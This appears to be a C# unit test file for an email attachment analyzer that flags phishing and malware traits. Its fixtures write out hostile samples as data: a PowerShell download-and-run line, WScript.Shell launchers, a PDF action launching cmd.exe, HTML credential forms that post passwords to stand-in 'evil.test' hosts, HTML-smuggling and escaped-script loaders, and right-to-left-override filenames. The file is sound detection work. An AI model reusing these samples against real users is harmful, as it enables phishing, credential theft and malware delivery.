using System.Diagnostics;
using System.Text;
using Hookline.Reports.Analysis;
using Hookline.Reports.Analysis.Attachments;
using Hookline.Reports.Analysis.Urls;
using Hookline.Reports.Tests.UrlTests;
using Hookline.Testing.Outlook;

namespace Hookline.Reports.Tests.AttachmentTests;

public class AttachmentAnalyzerTests
{
    private static MessageAnalysis Analyze(string fileName, byte[] content, string contentType = "application/octet-stream") =>
        ContentMessages.Run(new AttachmentAnalyzer(), ContentMessages.WithAttachment(fileName, contentType, content));

    private static MessageAnalysis AnalyzeAll(string fileName, byte[] content, string contentType = "application/octet-stream") =>
        ContentMessages.RunAll([new UrlAnalyzer(), new AttachmentAnalyzer()], ContentMessages.WithAttachment(fileName, contentType, content));

    [Fact]
    public void Analyze_WhenAttachment_KeepsContractFields()
    {
        var content = Encoding.ASCII.GetBytes("hello");

        var attachment = Assert.Single(Analyze("notes.txt", content, "text/plain").Attachments);

        Assert.Equal("notes.txt", attachment.FileName);
        Assert.Equal("text/plain", attachment.ContentType);
        Assert.Equal(5, attachment.Size);
        Assert.Equal("2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824", attachment.Sha256);
        Assert.Equal(FileKind.Text, attachment.Kind);
    }

    [Fact]
    public void Analyze_WhenProgramNamedExe_EmitsExecutable()
    {
        var result = Analyze("setup.exe", TestFiles.Pe());

        Assert.Contains(AttachmentSignals.Executable, result.Signals());
        Assert.DoesNotContain(AttachmentSignals.TypeMismatch, result.Signals());
        Assert.Equal(FileKind.PeExecutable, result.Attachments[0].Kind);
    }

    [Fact]
    public void Analyze_WhenProgramNamedPdf_EmitsTypeMismatchAndExecutable()
    {
        var result = Analyze("Invoice_2291.pdf", TestFiles.Pe(), "application/pdf");

        Assert.Contains(AttachmentSignals.TypeMismatch, result.Signals());
        Assert.Contains(AttachmentSignals.Executable, result.Signals());
    }

    [Fact]
    public void Analyze_WhenDeclaredTypeLies_EmitsTypeMismatch()
    {
        Assert.Contains(AttachmentSignals.TypeMismatch, Analyze("document", TestFiles.Pe(), "application/pdf").Signals());
    }

    [Theory]
    [InlineData("invoice.pdf.exe")]
    [InlineData("Scan_0042.docx.js")]
    [InlineData("statement.pdf          .scr")]
    [InlineData("invoice\u202Efdp.exe")]
    public void Analyze_WhenNameHidesRealExtension_EmitsDoubleExtension(string name)
    {
        Assert.Contains(AttachmentSignals.DoubleExtension, Analyze(name, TestFiles.Pe()).Signals());
    }

    [Theory]
    [InlineData("report.2024.pdf")]
    [InlineData("archive.tar.gz")]
    [InlineData("setup.exe")]
    public void Analyze_WhenNameIsOrdinary_NoDoubleExtension(string name)
    {
        Assert.DoesNotContain(AttachmentSignals.DoubleExtension, Analyze(name, [1, 2, 3]).Signals());
    }

    [Theory]
    [InlineData("payment.js", "var s = new ActiveXObject('WScript.Shell');")]
    [InlineData("Invoice.vbs", "CreateObject(\"WScript.Shell\").Run \"powershell\"")]
    [InlineData("doc.hta", "<html><script language=vbscript>x</script></html>")]
    [InlineData("run.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x')")]
    [InlineData("Invoice.chm", "ITSF")]
    [InlineData("Report.msc", "<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\">")]
    [InlineData("Remittance.one", "onenote")]
    public void Analyze_WhenScript_EmitsScript(string name, string content)
    {
        Assert.Contains(AttachmentSignals.Script, Analyze(name, Encoding.ASCII.GetBytes(content)).Signals());
    }

    [Fact]
    public void Analyze_WhenIso_EmitsDiskImage()
    {
        var result = Analyze("Order_details.iso", TestFiles.Iso());

        Assert.Contains(AttachmentSignals.DiskImage, result.Signals());
        Assert.Equal(FileKind.Iso, result.Attachments[0].Kind);
    }

    [Fact]
    public void Analyze_WhenIsoNamedAsImage_EmitsDiskImageAndMismatch()
    {
        var result = Analyze("photo.jpg", TestFiles.Iso(), "image/jpeg");

        Assert.Contains(AttachmentSignals.DiskImage, result.Signals());
        Assert.Contains(AttachmentSignals.TypeMismatch, result.Signals());
    }

    [Fact]
    public void Analyze_WhenZipHoldsProgram_EmitsArchiveExecutableAndListsIt()
    {
        var zip = TestFiles.Zip(("Invoice.pdf.exe", TestFiles.Pe()), ("readme.txt", Encoding.ASCII.GetBytes("hi")));

        var result = Analyze("Invoice.zip", zip, "application/zip");

        Assert.Contains(AttachmentSignals.ArchiveExecutable, result.Signals());
        var archive = result.Attachments[0].Archive;
        Assert.NotNull(archive);
        Assert.Equal(2, archive.EntryCount);
        Assert.Contains(archive.Entries, e => e.Name == "Invoice.pdf.exe" && e.Size == 1024);
    }

    [Fact]
    public void Analyze_WhenZipHoldsDocuments_NoArchiveSignals()
    {
        var zip = TestFiles.Zip(("a.pdf", TestFiles.Ascii("%PDF-1.4 x")), ("b.txt", TestFiles.Ascii("hello")));

        var signals = Analyze("docs.zip", zip, "application/zip").Signals();

        Assert.Empty(signals);
    }

    [Fact]
    public void Analyze_WhenZipEncrypted_EmitsArchiveEncrypted()
    {
        var zip = TestFiles.MarkEncrypted(TestFiles.Zip(("invoice.js", TestFiles.Ascii("WScript"))));

        var result = Analyze("invoice.zip", zip);

        Assert.Contains(AttachmentSignals.ArchiveEncrypted, result.Signals());
        Assert.True(result.Attachments[0].Archive!.Encrypted);
    }

    [Fact]
    public void Analyze_WhenNestedZipHoldsProgram_FindsItOneLevelDown()
    {
        var inner = TestFiles.Zip(("payload.scr", TestFiles.Pe()));
        var outer = TestFiles.Zip(("documents.zip", inner));

        var result = Analyze("documents.zip", outer);

        Assert.Contains(AttachmentSignals.ArchiveExecutable, result.Signals());
        Assert.Contains(result.Attachments[0].Archive!.Entries, e => e.Name == "documents.zip/payload.scr");
    }

    [Fact]
    public void Analyze_WhenZipIsHighlyCompressed_EmitsArchiveBomb()
    {
        // 64 MiB of zeros deflate to about 64 KiB: a 1000:1 ratio, as in 42.zip's layers.
        var zip = TestFiles.Zip(("data.bin", new byte[64 << 20]));

        var result = Analyze("data.zip", zip);

        Assert.Contains(AttachmentSignals.ArchiveBomb, result.Signals());
    }

    [Fact]
    public void Analyze_WhenZipDeclaresHugeSize_EmitsArchiveBomb()
    {
        var zip = TestFiles.ForgedZip("0.dat", 1, 4_503_599_627_370_496);

        var result = Analyze("42.zip", zip);

        Assert.Contains(AttachmentSignals.ArchiveBomb, result.Signals());
        Assert.Equal(4_503_599_627_370_496, result.Attachments[0].Archive!.TotalUncompressed);
    }

    [Fact]
    public void Analyze_WhenZipClaims2To32Entries_EmitsBombAndStaysBounded()
    {
        var zip = TestFiles.ForgedZip("a.txt", 1UL << 32, 7, actualEntries: 3);

        var watch = Stopwatch.StartNew();
        var result = Analyze("many.zip", zip);

        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(5));
        Assert.Contains(AttachmentSignals.ArchiveBomb, result.Signals());
        Assert.Equal(3, result.Attachments[0].Archive!.EntryCount);
        Assert.Equal(1UL << 32, result.Attachments[0].Archive!.ClaimedEntries);
    }

    [Fact]
    public void Analyze_WhenZipHas20000Entries_ReadsAtMostTheLimit()
    {
        var zip = TestFiles.ForgedZip("a.txt", 20_000, 7, actualEntries: 20_000);

        var result = Analyze("many.zip", zip);

        Assert.Equal(ZipReader.MaxEntries, result.Attachments[0].Archive!.EntryCount);
        Assert.Contains(AttachmentSignals.ArchiveBomb, result.Signals());
    }

    [Fact]
    public void Analyze_WhenCentralDirectoryTruncated_ReadsLocalHeadersAndFlagsDamage()
    {
        var zip = TestFiles.Zip(("invoice.exe", TestFiles.Pe()), ("b.txt", TestFiles.Ascii("x")));
        var cut = zip[..(zip.Length - 40)];

        var result = Analyze("invoice.zip", cut);

        Assert.Contains(AttachmentSignals.ArchiveDamaged, result.Signals());
        Assert.Contains(AttachmentSignals.ArchiveExecutable, result.Signals());
    }

    [Theory]
    [InlineData(1)]
    [InlineData(30)]
    [InlineData(100)]
    [InlineData(500)]
    public void Analyze_WhenZipCutAnywhere_DoesNotThrow(int keep)
    {
        var zip = TestFiles.Zip(("a.exe", TestFiles.Pe()), ("b.zip", TestFiles.Zip(("c.js", TestFiles.Ascii("x")))));

        var result = Analyze("x.zip", zip[..Math.Min(keep, zip.Length)]);

        Assert.Single(result.Attachments);
    }

    [Fact]
    public void Analyze_WhenDocmHasVbaProject_EmitsMacro()
    {
        var result = Analyze("Invoice.docm", TestFiles.Word(macros: true));

        Assert.Contains(AttachmentSignals.Macro, result.Signals());
        Assert.Equal(FileKind.Docm, result.Attachments[0].Kind);
        Assert.DoesNotContain(AttachmentSignals.TypeMismatch, result.Signals());
    }

    [Fact]
    public void Analyze_WhenDocxHidesMacros_EmitsMacroAndTypeMismatch()
    {
        var result = Analyze("Invoice.docx", TestFiles.Word(macros: true), "application/vnd.openxmlformats-officedocument.wordprocessingml.document");

        Assert.Contains(AttachmentSignals.Macro, result.Signals());
        Assert.Contains(AttachmentSignals.TypeMismatch, result.Signals());
    }

    [Fact]
    public void Analyze_WhenPlainDocx_NoSignals()
    {
        var result = Analyze("Report.docx", TestFiles.Word(macros: false), "application/vnd.openxmlformats-officedocument.wordprocessingml.document");

        Assert.Empty(result.Signals());
        Assert.Equal(FileKind.Docx, result.Attachments[0].Kind);
    }

    [Fact]
    public void Analyze_WhenZippedDocm_EmitsMacro()
    {
        var result = Analyze("invoice.zip", TestFiles.Zip(("Invoice.docm", TestFiles.Word(macros: true))));

        Assert.Contains(AttachmentSignals.Macro, result.Signals());
    }

    [Fact]
    public void Analyze_WhenOleDocumentHasVbaStorage_EmitsMacro()
    {
        var root = new CfbStorage("Root Entry");
        root.AddStream("WordDocument", new byte[600]);
        var macros = root.AddStorage("Macros");
        macros.AddStream("PROJECT", TestFiles.Ascii("ID=\"{00000000}\"\r\nDocument=ThisDocument/&H00000000"));
        var vba = macros.AddStorage("VBA");
        vba.AddStream("dir", new byte[100]);
        vba.AddStream("_VBA_PROJECT", new byte[7]);
        var doc = CompoundFileWriter.Write(root).Bytes;

        var result = Analyze("Invoice.doc", doc, "application/msword");

        Assert.Contains(AttachmentSignals.Macro, result.Signals());
        Assert.Equal(FileKind.Doc, result.Attachments[0].Kind);
    }

    [Fact]
    public void Analyze_WhenOleWorkbookHasNoVba_NoMacro()
    {
        var root = new CfbStorage("Root Entry");
        root.AddStream("Workbook", new byte[5000]);
        root.AddStream("\u0005SummaryInformation", new byte[200]);
        var xls = CompoundFileWriter.Write(root).Bytes;

        var result = Analyze("Budget.xls", xls, "application/vnd.ms-excel");

        Assert.DoesNotContain(AttachmentSignals.Macro, result.Signals());
        Assert.Equal(FileKind.Xls, result.Attachments[0].Kind);
    }

    [Fact]
    public void Analyze_WhenOleWorkbookHasVbaProjectCur_EmitsMacro()
    {
        var root = new CfbStorage("Root Entry");
        root.AddStream("Workbook", new byte[5000]);
        var project = root.AddStorage("_VBA_PROJECT_CUR");
        project.AddStorage("VBA").AddStream("dir", new byte[10]);
        var xls = CompoundFileWriter.Write(root).Bytes;

        Assert.Contains(AttachmentSignals.Macro, Analyze("Budget.xls", xls).Signals());
    }

    [Fact]
    public void Analyze_WhenPdfActs_EmitsEachPdfSignal()
    {
        var pdf = TestFiles.Pdf(
            "<< /Type /Catalog /OpenAction 2 0 R /AcroForm << /Fields [] >> /Names << /EmbeddedFiles 4 0 R >> >>",
            "<< /S /JavaScript /JS (app.launchURL\\('https://evil.test/'\\)) >>",
            "<< /S /Launch /F (cmd.exe) >>",
            "<< /Type /EmbeddedFile >>",
            "<< /S /SubmitForm /F (https://collect.evil.test/) >>");

        var signals = Analyze("statement.pdf", pdf, "application/pdf").Signals();

        Assert.Contains(AttachmentSignals.PdfOpenAction, signals);
        Assert.Contains(AttachmentSignals.PdfJavaScript, signals);
        Assert.Contains(AttachmentSignals.PdfLaunch, signals);
        Assert.Contains(AttachmentSignals.PdfEmbeddedFile, signals);
        Assert.Contains(AttachmentSignals.PdfForm, signals);
        Assert.Contains(AttachmentSignals.PdfSubmitForm, signals);
    }

    [Fact]
    public void Analyze_WhenPdfNamesEscaped_StillFindsThemAndFlagsObfuscation()
    {
        var pdf = TestFiles.Pdf("<< /Type /Catalog /Open#41ction 2 0 R >>", "<< /S /J#61vaScript /J#53 (x) >>");

        var signals = Analyze("statement.pdf", pdf).Signals();

        Assert.Contains(AttachmentSignals.PdfJavaScript, signals);
        Assert.Contains(AttachmentSignals.PdfOpenAction, signals);
        Assert.Contains(AttachmentSignals.PdfObfuscated, signals);
    }

    [Fact]
    public void Analyze_WhenPlainPdf_NoSignals()
    {
        var pdf = TestFiles.Pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>");

        Assert.Empty(Analyze("report.pdf", pdf, "application/pdf").Signals());
    }

    [Fact]
    public void Analyze_WhenPdfLinks_AddsUrlsWithPdfSource()
    {
        var pdf = TestFiles.Pdf(
            "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://login.evil.test/doc\\(1\\)) >> >>",
            "<< /Type /Annot /Subtype /Link /A << /S /URI /URI <68747470733A2F2F6269742E6C792F78> >> >>");

        var result = AnalyzeAll("Shared document.pdf", pdf, "application/pdf");

        Assert.Contains(AttachmentSignals.PdfUri, result.Signals());
        Assert.Contains(result.Urls, u => u.Source == UrlSource.Pdf && u.Url == "https://login.evil.test/doc(1)");
        Assert.Contains(result.Urls, u => u.Source == UrlSource.Pdf && u.Url == "https://bit.ly/x");
        Assert.Contains(UrlSignals.Shortener, result.Signals());
    }

    [Fact]
    public void Analyze_WhenPdfLinkInObjectStream_FindsIt()
    {
        var pdf = TestFiles.PdfWithObjectStream("2 0 << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://hidden.evil.test/) >> >>");

        var result = AnalyzeAll("doc.pdf", pdf, "application/pdf");

        Assert.Contains(result.Urls, u => u.Url == "https://hidden.evil.test/");
    }

    [Fact]
    public void Analyze_WhenPdfHas100000Uris_BoundedAndFast()
    {
        var builder = new StringBuilder();
        for (var i = 0; i < 100_000; i++)
        {
            builder.Append("<< /A << /S /URI /URI (https://h").Append(i).Append(".evil.test/) >> >>\n");
        }

        var pdf = TestFiles.Pdf(builder.ToString());

        var watch = Stopwatch.StartNew();
        var result = AnalyzeAll("links.pdf", pdf, "application/pdf");

        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), watch.Elapsed.ToString());
        Assert.Equal(UrlCollector.MaxUrls, result.Urls.Count);
        var finding = Assert.Single(result.Findings, f => f.Signal == AttachmentSignals.PdfUri);
        Assert.Contains("100000", finding.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void Analyze_WhenHtmlAttachmentAsksForPassword_EmitsHtmlCredentialForm()
    {
        var html = """
            <html><body style="background:url(https://aadcdn.evil.test/bg.jpg)">
            <form method="post" action="https://collect.evil.test/owa.php">
              <input type="hidden" name="u" value="victim@contoso.com">
              <input type="password" name="p" placeholder="Password"><button>Sign in</button>
            </form></body></html>
            """;

        var result = AnalyzeAll("Voicemail_0412.html", Encoding.UTF8.GetBytes(html), "text/html");

        Assert.Contains(AttachmentSignals.Html, result.Signals());
        Assert.Contains(AttachmentSignals.HtmlCredentialForm, result.Signals());
        Assert.Contains(result.Urls, u => u.Source == UrlSource.HtmlAttachment && u.Url == "https://collect.evil.test/owa.php");
        Assert.DoesNotContain(UrlSignals.CredentialForm, result.Signals());
    }

    [Fact]
    public void Analyze_WhenHtmlAttachmentSmugglesFile_EmitsHtmlSmuggling()
    {
        var random = new byte[20_000];
        new Random(7).NextBytes(random);
        var payload = Convert.ToBase64String(TestFiles.Zip(("invoice.js", random)));
        var html = $$"""
            <html><body><script>
            var b = atob("{{payload}}"); var a = new Uint8Array(b.length);
            for (var i = 0; i < b.length; i++) { a[i] = b.charCodeAt(i); }
            var blob = new Blob([a], {type: 'application/zip'}); var l = document.createElement('a');
            l.href = URL.createObjectURL(blob); l.download = 'invoice.zip'; l.click();
            </script></body></html>
            """;

        var result = Analyze("invoice.html", Encoding.ASCII.GetBytes(html), "text/html");

        Assert.Contains(AttachmentSignals.HtmlSmuggling, result.Signals());
    }

    [Fact]
    public void Analyze_WhenHtmlAttachmentWritesAnEscapedForm_EmitsObfuscatedAndReadsTheForm()
    {
        var page = """<html><body><form method="post" action="https://collect.evil.test/pay.php"><input type="email" name="e"><input type="password" name="p"><button>Confirm</button></form></body></html>""";
        var escaped = string.Concat(Encoding.UTF8.GetBytes(page).Select(b => $"%{b:X2}"));
        var html = $"<script>\n<!--\ndocument.write(unescape(\"{escaped}\"));\n//-->\n</script>";

        var result = Analyze("Confirmation.html", Encoding.ASCII.GetBytes(html), "text/html");

        Assert.Contains(AttachmentSignals.HtmlObfuscated, result.Signals());
        Assert.Contains(AttachmentSignals.HtmlCredentialForm, result.Signals());
        Assert.Contains(result.Urls, u => u.Url == "https://collect.evil.test/pay.php");
    }

    [Fact]
    public void Analyze_WhenTheMarkupIsBase64InsideEscapes_ReadsBothLayers()
    {
        var inner = Convert.ToBase64String(Encoding.UTF8.GetBytes("""<div><a href="https://drop.evil.test/get">Download</a><input type="password"></div>"""));
        var outer = string.Concat(Encoding.UTF8.GetBytes($"<script>document.body.innerHTML = atob('{inner}');</script><div>loading</div>").Select(b => $"%{b:X2}"));
        var html = $"<html><script>document.write(decodeURIComponent('{outer}'))</script></html>";

        var result = Analyze("Statement.htm", Encoding.ASCII.GetBytes(html), "text/html");

        Assert.Contains(AttachmentSignals.HtmlObfuscated, result.Signals());
        Assert.Contains(AttachmentSignals.HtmlCredentialForm, result.Signals());
        Assert.Contains(result.Urls, u => u.Url == "https://drop.evil.test/get");
    }

    [Fact]
    public void Analyze_WhenAPageClicksItsOwnLinkOnLoad_EmitsRedirect()
    {
        var html = """<html><body onload="document.getElementById('1').click();"><a id="1" href="https://free-coins.evil.test/index.html">Open Site</a></body></html>""";

        var result = Analyze("GET Coins.html", Encoding.ASCII.GetBytes(html), "text/html");

        Assert.Contains(AttachmentSignals.HtmlRedirect, result.Signals());
        Assert.DoesNotContain(AttachmentSignals.HtmlObfuscated, result.Signals());
    }

    [Fact]
    public void Analyze_WhenAPageHasThousandsOfUnclosedDecodeCalls_StaysBounded()
    {
        var html = new StringBuilder("<script>");
        for (var i = 0; i < 20_000; i++)
        {
            html.Append("unescape(\"%3Cform ");
        }

        var result = Analyze("many.html", Encoding.ASCII.GetBytes(html.ToString()), "text/html");

        Assert.Contains(AttachmentSignals.Html, result.Signals());
        Assert.True(ScriptedMarkup.Find(html.ToString()).Count <= ScriptedMarkup.MaxLiterals);
    }

    [Fact]
    public void Analyze_WhenHtmlAttachmentIsBenign_NoSmugglingOrForm()
    {
        var result = Analyze("receipt.html", Encoding.ASCII.GetBytes("<html><body><p>Thanks</p><a href=\"https://shop.test/\">shop</a></body></html>"), "text/html");

        Assert.DoesNotContain(AttachmentSignals.HtmlSmuggling, result.Signals());
        Assert.DoesNotContain(AttachmentSignals.HtmlCredentialForm, result.Signals());
        Assert.DoesNotContain(AttachmentSignals.HtmlObfuscated, result.Signals());
        Assert.DoesNotContain(AttachmentSignals.HtmlRedirect, result.Signals());
    }

    [Fact]
    public void Analyze_WhenSvgHasScript_EmitsScript()
    {
        var svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.location='https://evil.test/'</script></svg>";

        var result = Analyze("Fax.svg", Encoding.ASCII.GetBytes(svg), "image/svg+xml");

        Assert.Contains(AttachmentSignals.Script, result.Signals());
        Assert.Equal(FileKind.Svg, result.Attachments[0].Kind);
    }

    [Fact]
    public void Analyze_WhenEmlAttachedAsFile_AnalysesItAsMessage()
    {
        var inner = "From: ceo@evil.test\r\nTo: x@contoso.test\r\nSubject: urgent\r\nContent-Type: multipart/mixed; boundary=\"i\"\r\n\r\n--i\r\nContent-Type: text/plain\r\n\r\nsee\r\n--i\r\nContent-Type: application/octet-stream; name=\"a.exe\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + Convert.ToBase64String(TestFiles.Pe()) + "\r\n--i--\r\n";

        var result = Analyze("Fwd urgent.eml", Encoding.ASCII.GetBytes(inner));

        var nested = Assert.Single(result.AttachedMessages);
        Assert.True(result.Attachments[0].IsMessage);
        Assert.Contains(AttachmentSignals.Executable, nested.Signals());
    }

    [Fact]
    public void Analyze_WhenMsgAttached_AnalysesItAsMessage()
    {
        var spec = new OutlookMessageSpec { Subject = "Invoice", Body = "see attached", SenderName = "A", SenderSmtp = "a@evil.test" };
        spec.Attachments.Add(new AttachmentSpec { FileName = "invoice.exe", LongFileName = "invoice.pdf.exe", Data = TestFiles.Pe() });
        var msg = OutlookMessageWriter.Write(spec);

        var result = Analyze("Invoice.msg", msg, "application/vnd.ms-outlook");

        Assert.Equal(FileKind.OutlookMessage, result.Attachments[0].Kind);
        var nested = Assert.Single(result.AttachedMessages);
        Assert.Contains(AttachmentSignals.Executable, nested.Signals());
    }

    [Fact]
    public void Analyze_WhenWinmailDat_AnalysesItAsMessage()
    {
        var spec = new OutlookMessageSpec { Subject = "Invoice", Body = "see attached" };
        spec.Attachments.Add(new AttachmentSpec { FileName = "invoice.js", Data = TestFiles.Ascii("WScript.Shell") });

        var result = Analyze("winmail.dat", TnefWriter.Write(spec), "application/ms-tnef");

        var nested = Assert.Single(result.AttachedMessages);
        Assert.Contains(AttachmentSignals.Script, nested.Signals());
    }

    [Fact]
    public void Analyze_WhenMessageRfc822Part_ListsAndRecurses()
    {
        var mime = "From: a@example.test\r\nSubject: fwd\r\nContent-Type: multipart/mixed; boundary=\"o\"\r\n\r\n--o\r\nContent-Type: text/plain\r\n\r\nfyi\r\n--o\r\nContent-Type: message/rfc822\r\n\r\nFrom: b@evil.test\r\nSubject: inner\r\nContent-Type: application/octet-stream; name=\"x.vbs\"\r\n\r\nMsgBox 1\r\n--o--\r\n";

        var result = ContentMessages.Run(new AttachmentAnalyzer(), mime);

        Assert.True(result.Attachments[0].IsMessage);
        Assert.Contains(AttachmentSignals.Script, Assert.Single(result.AttachedMessages).Signals());
    }

    [Theory]
    [InlineData("photo.png", new byte[] { 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A }, "image/png", FileKind.Png)]
    [InlineData("photo.jpg", new byte[] { 0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10 }, "image/jpeg", FileKind.Jpeg)]
    [InlineData("letter.rtf", new byte[] { (byte)'{', (byte)'\\', (byte)'r', (byte)'t', (byte)'f', (byte)'1' }, "application/rtf", FileKind.Rtf)]
    public void Analyze_WhenContentMatchesName_NoSignals(string name, byte[] content, string type, FileKind kind)
    {
        var result = Analyze(name, content, type);

        Assert.Empty(result.Signals());
        Assert.Equal(kind, result.Attachments[0].Kind);
    }

    [Fact]
    public void Analyze_WhenRtfNamedDoc_EmitsTypeMismatch()
    {
        Assert.Contains(AttachmentSignals.TypeMismatch, Analyze("invoice.doc", TestFiles.Ascii("{\\rtf1{\\object\\objemb}}")).Signals());
    }
}
